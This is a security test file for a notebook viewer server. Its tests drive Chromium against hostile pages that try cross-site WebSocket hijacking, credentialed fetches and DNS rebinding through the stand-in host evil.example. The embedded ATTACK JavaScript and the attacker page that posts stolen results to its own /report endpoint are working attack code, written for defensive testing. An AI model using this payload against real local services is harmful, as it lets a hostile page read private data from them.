"""Other pages against the viewer in a real browser (issue #20): Debian's Chromium, with its
own local-network protections turned off, so what is tested is the server's Host, Origin and
Fetch-Metadata checks, not the browser's.

A page on another port of 127.0.0.1 is *same-site* with the viewer (sites ignore ports): the
browser sends it the SameSite=Strict viewer cookie. And a DNS-rebound name (``evil.example``
mapped to 127.0.0.1) makes a hostile page same-origin with the server. Each test reads what
the hostile page itself reports, and what the server answered.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from test_browser import ARGS, WAIT_MS, Watch, chromium
from viewer_helpers import FAST, cell_events, commit_all, run_events

from runt_action.livestore import SyncServer, connect_store
from runt_action.schema import events as ev
from runt_action.schema.state import NotebookMaterializer
from runt_action.viewer import Viewer, attach_viewer

pytestmark = pytest.mark.timeout(240)

TOKEN = "origin-test-token-5d1c"
MARKER = "cell-output-marker-91be"  # in the notebook's only output: what must not leak
LATER = "a-later-line-c4e2"
EVIL = "evil.example"
# Chromium's own guards for requests into loopback or private networks: off, so a pass
# means the server refused, not the browser. (--disable-web-security stays off: the
# same-origin policy is what a real victim's browser has.)
FLAGS = [
    *ARGS,
    "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,"
    "PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks",
    f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
]

# What a hostile page runs: open the sync socket (wrong token, no token, optionally one
# given), the viewer's live socket, and fetch the notebook page; report everything it got.
ATTACK = """
async ({host, store, token}) => {
  const settle = (url, send) => new Promise((resolve) => {
    const r = {kind: "ws", url, opened: false, messages: [], code: null};
    let ws;
    try { ws = new WebSocket(url); } catch (e) { r.error = String(e); resolve(r); return; }
    const stop = setTimeout(() => { ws.close(); resolve(r); }, 5000);
    ws.onopen = () => { r.opened = true; if (send) ws.send(send); };
    ws.onmessage = (e) => { r.messages.push(String(e.data)); ws.close(); };
    ws.onclose = (e) => { r.code = e.code; clearTimeout(stop); resolve(r); };
  });
  const read = async (url, init) => {
    const r = {kind: "fetch", url, mode: init.mode || "cors"};
    try {
      const resp = await fetch(url, {credentials: "include", ...init});
      r.status = resp.status; r.type = resp.type; r.text = await resp.text();
    } catch (e) { r.error = String(e); }
    return r;
  };
  const sync = (payload) => `ws://${host}/livestore?storeId=${store}` +
    (payload === undefined ? "" : "&payload=" + encodeURIComponent(JSON.stringify(payload)));
  const pull = JSON.stringify({_tag: "WSMessage.PullReq", requestId: "steal"});
  const out = [];
  out.push(await settle(sync({authToken: "wrong"}), pull));
  out.push(await settle(sync(undefined), pull));
  out.push(await settle(sync({}), pull));
  if (token) out.push(await settle(sync({authToken: token}), pull));
  out.push(await settle(`ws://${host}/nb/${store}/live`));
  out.push(await read(`http://${host}/nb/${store}`, {}));
  out.push(await read(`http://${host}/nb/${store}`, {mode: "no-cors"}));
  out.push(await read(`http://${host}/`, {}));
  return out;
}
"""

ATTACKER_PAGE = """<!DOCTYPE html>
<html><head><title>a page on another port</title></head><body><p>nothing to see</p>
<script>
const attack = %s;
attack(%s).then((results) =>
  fetch("/report", {method: "POST", body: JSON.stringify(results)}));
</script></body></html>
"""


@dataclass
class Seen:
    """What the sync server answered, per request (path, Host, Origin, Sec-Fetch-Site)."""

    rows: list[dict[str, Any]] = field(default_factory=list)

    async def record(self, request: web.Request, response: web.StreamResponse) -> None:
        self.rows.append(
            {
                "path": request.path,
                "host": request.headers.get("Host", ""),
                "origin": request.headers.get("Origin"),
                "site": request.headers.get("Sec-Fetch-Site"),
                "status": response.status,
            }
        )

    def from_(self, origin: str) -> list[dict[str, Any]]:
        """Requests a page of ``origin`` made: by its Origin header, or (no-cors fetches
        carry none) by the browser's word that they were not same-origin."""
        return [
            r
            for r in self.rows
            if r["origin"] == origin or (r["origin"] is None and r["site"] == "same-site")
        ]


@dataclass
class Served:
    server: SyncServer
    viewer: Viewer
    seen: Seen

    @property
    def port(self) -> int:
        return self.server.port


@pytest.fixture
async def served() -> AsyncIterator[Served]:
    """A server with a token, the viewer (the server's token) and a notebook with output."""
    seen = Seen()
    server = SyncServer(token=TOKEN)
    server.app.on_response_prepare.append(seen.record)
    viewer = attach_viewer(server)
    await server.start()
    try:
        await write(server, notebook_events())
        yield Served(server, viewer, seen)
    finally:
        await server.stop()


def notebook_events() -> list[Any]:
    events: list[Any] = [ev.NotebookInitialized(id="nbA", title="Private", ownerId="me")]
    events += cell_events("c1", "a1", "print(marker)")
    events += run_events("c1", "q1", f"{MARKER}\n")
    return events


async def write(server: SyncServer, events: list[Any]) -> None:
    store = await connect_store(
        server.url, "nbA", {"authToken": TOKEN}, NotebookMaterializer(),
        client_id="w", session_id="w1", timeouts=FAST,
    )  # fmt: skip
    async with store:
        await commit_all(store, events)


@pytest.fixture
async def browser(tmp_path: Path) -> AsyncIterator[Any]:
    """A fresh Chromium profile per test, with the flags above."""
    async with chromium(tmp_path / "profile", FLAGS) as context:
        yield context


@dataclass
class Attacker:
    """An unrelated HTTP server on another port of 127.0.0.1: its page and what it heard."""

    origin: str
    reports: asyncio.Queue[list[dict[str, Any]]]


@pytest.fixture
async def attacker(served: Served) -> AsyncIterator[Attacker]:
    reports: asyncio.Queue[list[dict[str, Any]]] = asyncio.Queue()
    config = json.dumps({"host": f"127.0.0.1:{served.port}", "store": "nbA", "token": None})

    async def page(request: web.Request) -> web.Response:
        return web.Response(text=ATTACKER_PAGE % (ATTACK, config), content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        await reports.put(json.loads(await request.text()))
        return web.Response(text="thanks")

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_post("/report", report)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    try:
        yield Attacker(f"http://127.0.0.1:{port}", reports)
    finally:
        await runner.cleanup()


async def log_in(browser: Any, served: Served) -> Any:
    """Open the printed entry URL: the browser now holds the viewer's session cookie."""
    page = await browser.new_page()
    response = await page.goto(served.viewer.entry_url("nbA"))
    assert response is not None and response.status == 200
    assert page.url == served.viewer.url("nbA")  # the code left the address bar
    await page.wait_for_selector("#live-state.connected", timeout=WAIT_MS)
    cookies = {c["name"]: c for c in await browser.cookies()}
    assert cookies[served.viewer.cookie_name]["sameSite"] == "Strict"
    return page


def nothing_leaked(results: list[dict[str, Any]]) -> None:
    text = json.dumps(results)
    assert MARKER not in text and "Private" not in text and "nbA</code>" not in text
    for r in results:
        if r["kind"] == "ws":
            assert not r["opened"] and r["messages"] == [], r
        else:  # refused by the browser (no status), opaque (0, no text) or a 403
            assert r.get("status") in (None, 0, 403), r
            assert r.get("status") == 403 or r.get("text", "") == "", r


async def test_a_page_on_another_port_gets_nothing(
    browser: Any, served: Served, attacker: Attacker
) -> None:
    viewer_page = await log_in(browser, served)
    watch = Watch(viewer_page)

    hostile = await browser.new_page()
    await hostile.goto(attacker.origin + "/")
    results = await asyncio.wait_for(attacker.reports.get(), WAIT_MS / 1000)
    assert [r["url"].split("?")[0].split(str(served.port))[1] for r in results] == [
        "/livestore", "/livestore", "/livestore", "/nb/nbA/live", "/nb/nbA", "/nb/nbA", "/",
    ]  # fmt: skip
    nothing_leaked(results)

    # The server's side: every request the hostile page made was refused, before an upgrade.
    hostile_rows = served.seen.from_(attacker.origin)
    assert {r["path"] for r in hostile_rows} >= {"/livestore", "/nb/nbA/live", "/nb/nbA", "/"}
    assert hostile_rows and all(r["status"] == 403 for r in hostile_rows), hostile_rows

    # Positive control: the viewer's own page, same browser, same cookie, is still live.
    await write(served.server, run_events("c1", "q2", f"{LATER}\n"))
    await viewer_page.wait_for_selector(f'#cell-c1 .out:has-text("{LATER}")', timeout=WAIT_MS)
    assert await viewer_page.locator("#live-state.connected").count() == 1
    assert watch.errors == [] and watch.failed == []


async def test_without_the_servers_checks_the_same_page_would_read_the_notebook(
    browser: Any, served: Served, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control that makes the test above mean something: this browser, with these flags,
    does carry the cookie to the live socket; only the viewer's refusal stops the page."""
    monkeypatch.setattr(Viewer, "_refused", lambda self, request: None)
    await log_in(browser, served)
    hostile = await browser.new_page()
    await hostile.goto(attacker.origin + "/")
    results = await asyncio.wait_for(attacker.reports.get(), WAIT_MS / 1000)
    live = next(r for r in results if r["url"].endswith("/nb/nbA/live"))
    assert live["opened"] and MARKER in "".join(live["messages"])
    # The sync socket keeps its own checks (Origin, then the token): still shut.
    assert not any(r["opened"] for r in results if "/livestore" in r["url"])


async def test_a_rebound_name_gets_403_and_no_socket(browser: Any, served: Served) -> None:
    """DNS rebinding: evil.example now resolves to 127.0.0.1, so its page is same-origin
    with the server. Only the Host check stands in the way (even with the right token)."""
    viewer_page = await log_in(browser, served)
    page = await browser.new_page()
    evil = f"{EVIL}:{served.port}"
    for path in ("/", "/nb/nbA", f"/nb/nbA?token={TOKEN}", "/viewer.js"):
        response = await page.goto(f"http://{evil}{path}")
        assert response is not None and response.status == 403, path
        assert MARKER not in await page.content()
    results = await page.evaluate(ATTACK, {"host": evil, "store": "nbA", "token": TOKEN})
    assert [r.get("status") for r in results if r["kind"] == "fetch"] == [403, 403, 403]
    nothing_leaked(results)
    rows = [r for r in served.seen.rows if r["host"].startswith(EVIL)]
    assert {r["path"] for r in rows} >= {"/livestore", "/nb/nbA/live", "/nb/nbA", "/"}
    assert all(r["status"] == 403 for r in rows), rows

    # The same browser on the server's real name: still live.
    await write(served.server, run_events("c1", "q2", f"{LATER}\n"))
    await viewer_page.wait_for_selector(f'#cell-c1 .out:has-text("{LATER}")', timeout=WAIT_MS)
